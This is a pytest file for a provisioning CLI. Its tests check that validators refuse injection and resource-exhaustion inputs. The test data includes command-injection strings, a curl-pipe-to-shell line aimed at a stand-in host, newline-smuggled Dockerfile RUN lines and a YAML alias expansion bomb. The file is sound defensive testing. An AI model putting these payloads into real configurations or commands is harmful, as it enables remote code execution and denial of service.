"""The classes of issue 10 as fixed cases: each grammar, the bounded reader, the YAML limits, linear
version parsing, the cache, and a few commands as a user runs them (a subprocess under a memory limit)."""

from __future__ import annotations

import json
import os
import re
import resource
import subprocess
import sys
import time

import pytest

from provisioner import hostfile, safeyaml, validate
from provisioner.errors import ProvisionError
from provisioner.matrix import cache
from provisioner.versions import V, VersionError
from tests.fuzz.harness import CANARY, invoke


@pytest.mark.parametrize("ref", ["ubuntu", "quay.io/ascend/cann:8.0.rc1-910b-ubuntu22.04-py3.10", "localhost:5000/a/b:1",
                                 "a/b@sha256:" + "0" * 64, "[::1]:5000/x:y", "provision/pytorch:9.1.0-910b-torch2.12.0"])
def test_image_refs_accepted(ref):
    assert validate.image_ref(ref) == ref


@pytest.mark.parametrize("ref", ["", "x/UPPER", "x\nRUN y", "x y", "x:", ":x", "x@sha256:zz", "x:" + "a" * 200, "-x",
                                 "x//y", "ｘ", "a\u2028b", "x:tag\n"])
def test_image_refs_refused(ref):
    with pytest.raises(validate.Invalid):
        validate.image_ref(ref, "--base-image")


def test_urls_hosts_labels_names():
    assert validate.url("https://pypi.org/simple") and validate.url("http://10.0.0.1:8080/x/")
    for bad in ("ftp://x", "https://", "https://a b", "https://x\n", "https://x/\nindex-url=y", "javascript:1",
                "https://x:99999/", "https://ex ample.com", "https://é.com"):
        with pytest.raises(validate.Invalid):
            validate.url(bad)
    assert validate.host("node-0.example") and validate.host("10.0.0.1") and validate.host("fe80::1")
    for bad in ("a\nb", "-a", "a..b", "1.2.3.999", "fe80::1%a\nb", "x" * 300, "a_b"):
        with pytest.raises(validate.Invalid):
            validate.host(bad)
    assert validate.dns_label("job-1") and validate.dns_label("a.b", subdomain=True)
    for bad in ("job\n", "Job", "-a", "a-", "a" * 64, "a_b", ""):
        with pytest.raises(validate.Invalid):
            validate.dns_label(bad)
    for bad in ("../x", "a/b", "..", "x\n", ""):
        with pytest.raises(validate.Invalid):
            validate.name(bad)


def test_comment_escapes_every_line_break():
    for brk in ("\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\x00", "\x1b"):
        text = validate.comment(f"# a{brk}RUN x")
        assert len(text.splitlines()) == 1 and "\\" in text


def test_versions_linear_ascii_bounded():
    for bad in ("١", "3.١٠", "８", "2.1.0.post١", "1" * 65, "K"):  # K: the Kelvin sign lower-cases to 'k'
        with pytest.raises(VersionError):
            V(bad)
    start = time.perf_counter()
    for n in (10_000, 100_000):
        with pytest.raises(VersionError):
            V("1" * n + "!")
        with pytest.raises(VersionError):
            V("1." * n + "!")
    assert time.perf_counter() - start < 1.0
    assert V("25.0.rc1.1") > V("25.0.RC1")


def test_hostfile_refuses_what_is_not_a_small_regular_file(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    (tmp_path / "zero").symlink_to("/dev/zero")
    huge = tmp_path / "huge"
    with open(huge, "wb") as fh:
        fh.truncate(10 << 20)
    start = time.perf_counter()
    for path, why in ((fifo, "a FIFO"), (tmp_path / "zero", "a device"), (tmp_path, "a directory"),
                      (huge, "larger than"), (tmp_path / "none", "cannot read")):
        with pytest.raises(hostfile.HostFileError, match=why):
            hostfile.read_bytes(path, limit=1 << 20)
    assert time.perf_counter() - start < 2.0
    (tmp_path / "bad").write_bytes(b"\xff\xfe")
    with pytest.raises(hostfile.HostFileError, match="not UTF-8"):
        hostfile.read_text(tmp_path / "bad")
    assert hostfile.try_read_text(fifo) is None
    (tmp_path / "ok").write_text("Version=1\n")
    assert hostfile.read_text(tmp_path / "ok") == "Version=1\n"


def test_yaml_limits():
    bomb = "\n".join(["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
                     + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)])
    with pytest.raises(safeyaml.YamlLimitError, match="expands"):
        safeyaml.load(bomb, "bomb.yaml")
    with pytest.raises(ProvisionError, match="nest"):  # our limit, or libyaml's own
        safeyaml.load("[" * 5000 + "]" * 5000, "deep.yaml")
    with pytest.raises(safeyaml.YamlLimitError, match="deeper"):
        safeyaml.load("[" * 100 + "]" * 100, "deep.yaml")
    with pytest.raises(safeyaml.YamlLimitError, match="aliases"):
        safeyaml.load("a: &a 1\nb: [" + ", ".join(["*a"] * 2000) + "]\n", "many.yaml")
    with pytest.raises(ProvisionError, match="invalid YAML"):
        safeyaml.load("a: [", "broken.yaml")
    assert safeyaml.load("a: &x [1]\nb: *x\n", "ok.yaml") == {"a": [1], "b": [1]}


def test_json_depth_and_stack_documents():
    with pytest.raises(validate.Invalid, match="nested"):
        validate.json_doc("[" * 100000 + "]" * 100000, "x")
    with pytest.raises(validate.Invalid, match="nested"):
        validate.json_doc("[" * 40 + "]" * 40, "x")
    with pytest.raises(validate.Invalid, match="cann.version"):
        validate.stack_doc({"cann": {"version": f"8.0\nRUN {CANARY}"}}, "--stack s.json")
    with pytest.raises(validate.Invalid, match="chip must be an object"):
        validate.stack_doc({"cann": {}, "chip": "x"}, "label")


def test_corrupt_cache_entry_is_a_miss_and_rewritten(tmp_path, monkeypatch):
    monkeypatch.setenv("PROVISION_CACHE", str(tmp_path))
    cache.write("e.json", {"a": 1})
    assert cache.read("e.json") == {"a": 1}
    raw = (tmp_path / "e.json").read_bytes()
    for corrupt in (raw[:-3], raw.replace(b'"a"', b'"b"'), b"{}", b"", b"\xff" * 10):
        (tmp_path / "e.json").write_bytes(corrupt)
        assert cache.read("e.json") is None
    # Through the CLI: a resolve entry altered to the wrong shape is recomputed, and the run after is fine.
    assert invoke(["resolve", "--card", "800T-A2", "--json"]).rc == 0
    for entry in tmp_path.glob("resolve-*.json"):
        body = b'{"status":"ok"}'
        entry.write_bytes(cache._digest(body).encode() + b"\n" + body)
    for _ in range(2):
        res = invoke(["resolve", "--card", "800T-A2", "--json"])
        assert res.rc == 0 and json.loads(res.out)["stack"]["card"]["id"] == "800T-A2", res.err


@pytest.mark.parametrize("argv, fragment", [
    (["resolve", "--card", "800T-A2", "--cann", "abc"], "--cann"),
    (["resolve", "--card", "800T-A2", "--torch", ""], "--torch"),
    (["resolve", "--card", "800T-A2", "--python", "3.١٠"], "--python"),
    (["resolve", "--card", "800T-A2", "--driver", "1" * 5000], "--driver"),
    (["resolve", "--card", "800T-A2", "--base-image", f"x\nRUN {CANARY}"], "--base-image"),
    (["render", "--card", "800T-A2", "--recipe", "../x", "-o", "out"], "recipe"),
    (["resolve", "--card", "800T-A2\udcff"], "UTF-8"),
])
def test_one_line_refusals(argv, fragment, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    res = invoke(argv)
    assert res.rc == 2 and res.out == "" and len(res.err.splitlines()) == 1 and fragment in res.err, res.err
    assert list(tmp_path.iterdir()) == []


def _limited():
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))


@pytest.mark.parametrize("argv", [
    ["resolve", "--card", "800T-A2", "--driver", "9" * 100000],
    ["matrix", "--matrix", "BOMB"],
    ["resolve", "--card", "800T-A2", "--matrix", "DEEP"],
    ["matrix", "--section", "cards"],
])
def test_as_a_user_runs_it(argv, tmp_path):
    """The console script in a fresh process under a 2 GiB address-space limit and a time limit; piped to a
    reader that stops early (head) it exits quietly."""
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("\n".join(["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
                              + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]) + "\n")
    deep = tmp_path / "deep.yaml"
    deep.write_text("cards: " + "[" * 50000 + "]" * 50000 + "\n")
    argv = [str(bomb) if a == "BOMB" else str(deep) if a == "DEEP" else a for a in argv]
    env = {**os.environ, "PROVISION_CACHE": str(tmp_path / "cache")}
    proc = subprocess.run([sys.executable, "-c", "import sys; from provisioner.cli import main; sys.exit(main())", *argv],
                          capture_output=True, text=True, timeout=60, preexec_fn=_limited, env=env)
    assert "Traceback" not in proc.stderr and proc.returncode in (0, 2), proc.stderr
    assert proc.returncode == 0 or len(proc.stderr.splitlines()) == 1
    head = subprocess.run(f"{sys.executable} -c 'import sys; from provisioner.cli import main; sys.exit(main())' "
                          f"matrix --json | head -c 10", shell=True, capture_output=True, text=True, timeout=60, env=env)
    assert head.stderr == "" and len(head.stdout) == 10


def test_trainer_config_refuses_nan_inf_bombs_and_fifos(tmp_path):
    from provisioner.train.config import ConfigError, load_config

    for value in (".nan", ".inf", "-.inf", "1e999", "'nan'"):
        cfg = tmp_path / "c.yaml"
        cfg.write_text(f"learning_rate: {value}\n")
        with pytest.raises(ConfigError, match="finite"):
            load_config(cfg)
    with pytest.raises(ConfigError, match="finite"):
        load_config(None, ["warmup_ratio=.nan"])
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    with pytest.raises(ConfigError, match="FIFO"):
        load_config(fifo)
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("\n".join(["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
                              + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]) + "\n")
    with pytest.raises(ConfigError, match="expands"):
        load_config(bomb)


def test_a_version_local_part_is_pep440_only():
    """Review A #1: the text after '+' reached Dockerfile RUN lines and pip lines unchecked."""
    for bad in ("1.0+a;b|c $(x)", "3.11+\nRUN x", f"65.7.0+x;touch${{IFS}}/tmp/{CANARY};", "1.0+", "1.0+a..b",
                "1.0+x+y", "1.0+`x`", "1.0+a b"):
        with pytest.raises(VersionError):
            V(bad)
    assert V("2.5.1+cpu").local == "cpu" and V("1.0+a.b-c_d").local == "a.b-c_d"


# An overlay row, the command that reads it, and a fragment of the one-line refusal (file:line and field).
_OVERLAY_CASES = [
    ("apex:\n  - id: ascend-apex\n    setuptools_pin: \"65.7.0+x;touch${IFS}/tmp/PWNED;\"\n", "render",
     "bad version string"),
    ("apex:\n  - id: ascend-apex\n    ref: \"--orphan=PWNED\"\n", "render", "not starting with '-'"),
    ("apex:\n  - id: ascend-apex\n    ref: \"-x\"\n", "render", "apex"),
    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch=={torch}+cpu; curl -s http://e.example/x | sh;\"\n",
     "resolve", "requirement"),
    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch=={torch}+cpu --index-url http://e.example/simple\"\n",
     "resolve", "requirement"),
    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch=={version}+cpu\"\n", "resolve",
     "only the placeholder {torch}"),
    ("torch_wheels:\n  - id: x86_64-cpu-local\n    pin: \"torch=={x}\"\n", "resolve", "only the placeholder {torch}"),
    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch=={torch.__class__}\"\n", "resolve",
     "only the placeholder {torch}"),
    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch>={torch}\"\n", "resolve", "one version with '=='"),
    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch==={torch}$(PWNED)\"\n", "resolve", "requirement"),
    ("torch_wheels:\n  - id: x86_64-cpu-local\n    requirement: \"torch @ https://e.example/t.whl\"\n", "resolve",
     "requirement"),
    ("extras:\n  - name: deepspeed\n    requirement: \"deepspeed; python_version > '3'\"\n", "resolve", "requirement"),
    ("extras:\n  - name: deepspeed\n    requirement: \"deepspeed>=1 $(PWNED)\"\n", "resolve", "requirement"),
]


@pytest.mark.parametrize("text, command, fragment", _OVERLAY_CASES)
def test_overlay_fields_that_reach_shell_lines_are_refused_in_one_line(text, command, fragment, tmp_path,
                                                                        monkeypatch):
    """Review A #1-#3: version, ref and requirement fields of an overlay reach `pip install` / `git checkout`
    words of a Dockerfile RUN line, requirements/framework.txt and the printed install line; each is refused
    where the overlay is read (file:line, exit 2), never a traceback, never written."""
    overlay = tmp_path / "o.yaml"
    overlay.write_text(text)
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    argv = [command, "--matrix", str(overlay), "--for-host", "none", "--card", "800T-A2", "--python", "3.10",
            "--arch", "x86_64", "--torch", "2.5.1", "--with", "apex"]
    res = invoke(argv + (["-o", "ctx"] if command == "render" else []))
    assert res.exc is None, res.exc
    assert res.rc == 2 and res.out == "" and len(res.err.splitlines()) == 1, res.err
    assert "o.yaml:" in res.err and fragment in res.err, res.err
    assert CANARY not in res.out and list(work.iterdir()) == []


def test_torch_placeholder_is_filled_without_str_format():
    from provisioner.matrix import fields

    assert fields.with_torch("torch=={torch}+cpu", "2.5.1") == "torch==2.5.1+cpu"
    assert fields.with_torch("torch=={torch.__class__}", "2") == "torch=={torch.__class__}"  # no attribute access
    assert fields.requirement("deepspeed>=0.10.0,<=0.18.4", "extras") == "deepspeed>=0.10.0,<=0.18.4"
    for bad in ("torch=={torch}+cpu", "x @ https://e.example/x", "x==1; os_name == 'nt'", "x==1 -i http://e",
                "x===1", "x==1 | sh", "x==1`y`"):
        with pytest.raises(ValueError):
            fields.requirement(bad, "extras.requirement")


def test_stack_documents_check_the_driver_lists_dtype_and_task():
    """Review A #4/#8: fields code reads from a stack label or --stack file are checked there (one line)."""
    ok = {"cann": {"version": "8.1.RC1"}, "driver": {"paired": ["25.0.rc1.1"], "compatible": [">=24.1.RC1,<26"]},
          "dtype": {"compute": "bf16", "loss_scaling": None, "reason": "bf16: fine"}, "task": "train"}
    assert validate.stack_doc(ok, "label") is ok
    for driver, fragment in (({"paired": ["x"]}, "driver.paired[0]"), ({"paired": "zz"}, "driver.paired"),
                             ({"paired": [1]}, "driver.paired[0]"), ({"paired": [None]}, "driver.paired[0]"),
                             ({"compatible": [">=x"]}, "driver.compatible[0]"),
                             ({"paired": [f"25.0+$({CANARY})"]}, "driver.paired[0]")):
        with pytest.raises(validate.Invalid, match=re.escape(fragment)):
            validate.stack_doc({"cann": {"version": "8.1.RC1"}, "driver": driver}, "--stack s.json")
    for bad, fragment in (({"dtype": "bf16"}, "dtype must be an object"), ({"dtype": {"compute": ["x"]}}, "dtype.compute"),
                          ({"task": {"x": 1}}, "task"), ({"task": "a/b"}, "task")):
        with pytest.raises(validate.Invalid, match=re.escape(fragment)):
            validate.stack_doc({"cann": {"version": "8.1.RC1"}, **bad}, "label")


def test_version_text_has_one_grammar_said_the_same_everywhere():
    """Review A #9: the checker, its refusal, the module docstring and docs/threat-model.md agree."""
    from pathlib import Path

    chars = ". + _ - * , < > = ! ~"
    for good in ("8.1.RC1", ">=2.1,<2.3", "~=2.1", "2.*", "!=1.0", "2.5.1+cpu"):
        assert validate.version_text(good) == good
    for bad in ("2.1 ", ">= 2.1", "2.1;x", "$(x)", "2.1|x", "a'b"):
        with pytest.raises(validate.Invalid, match=re.escape(chars)):
            validate.version_text(bad, "--torch")
    assert chars in validate.__doc__ and "no space" in validate.__doc__
    doc = (Path(__file__).resolve().parents[2] / "docs" / "threat-model.md").read_text()
    assert f"`{chars}`" in doc and "no space" in doc
